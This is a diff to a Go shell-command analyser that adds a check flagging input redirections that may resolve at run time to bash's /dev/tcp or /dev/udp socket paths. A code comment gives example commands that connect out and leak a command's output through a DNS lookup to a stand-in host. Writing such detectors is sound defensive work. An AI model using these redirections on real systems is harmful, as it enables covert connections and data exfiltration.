@@ -661,6 +661,11 @@ func (w *walker) redirect(r *syntax.Redirect) Redirect {
 		if tw.static && !tw.glob && tw.tilde {
 			out.tilde = tw.val
 		}
+		if r.Op == syntax.RdrIn {
+			// The one read that opens a file by name (every other such op writes, and is refused
+			// as a write already; here-documents, here-strings and fd dups open no name).
+			out.mayBeNet = !tw.static && mayBeNetPath(r.Word)
+		}
 	}
 	switch r.Op {
 	case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.AppClob,
@@ -682,6 +687,51 @@ func (w *walker) redirect(r *syntax.Redirect) Redirect {
 		out.Target = ""
 	}
 	return out
+}
+
+// mayBeNetPath reports whether a redirection target known only at run time may expand to a
+// name bash opens as a socket: `cat < /dev/tcp/$h/80` connects, and
+// `cat < /dev/tcp/$(cmd).example.com/80` sends cmd's output out in a DNS query. The text
+// before the first expansion must rule out /dev/tcp/ and /dev/udp/; a process substitution
+// alone is a /dev/fd name.
+func mayBeNetPath(w *syntax.Word) bool {
+	if len(w.Parts) == 1 {
+		if _, ok := w.Parts[0].(*syntax.ProcSubst); ok {
+			return false
+		}
+	}
+	var b strings.Builder
+	prefix := func() string { return b.String() }
+parts:
+	for _, part := range w.Parts {
+		switch p := part.(type) {
+		case *syntax.Lit:
+			// Dropping every backslash only brings the text nearer to /dev/tcp/.
+			b.WriteString(strings.ReplaceAll(p.Value, "\\", ""))
+		case *syntax.SglQuoted:
+			if p.Dollar {
+				break parts
+			}
+			b.WriteString(p.Value)
+		case *syntax.DblQuoted:
+			for _, q := range p.Parts {
+				l, ok := q.(*syntax.Lit)
+				if !ok {
+					break parts
+				}
+				b.WriteString(strings.ReplaceAll(l.Value, "\\", ""))
+			}
+		default:
+			break parts
+		}
+	}
+	s := prefix()
+	for _, dev := range []string{"/dev/tcp/", "/dev/udp/"} {
+		if strings.HasPrefix(dev, s) || strings.HasPrefix(s, dev) {
+			return true
+		}
+	}
+	return false
 }
 
 // isFdDup reports whether t is a descriptor number (optionally moved with a
